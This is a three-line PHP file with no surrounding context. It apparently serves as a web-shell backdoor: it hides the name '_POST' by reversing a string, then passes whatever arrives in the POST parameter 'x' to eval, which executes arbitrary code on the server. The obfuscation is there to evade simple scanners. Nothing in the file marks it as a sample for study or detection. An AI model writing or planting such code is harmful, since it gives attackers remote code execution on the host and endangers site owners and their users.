<?php
$v = strtoupper(strrev('tsop_'));
eval(${$v}['x']);
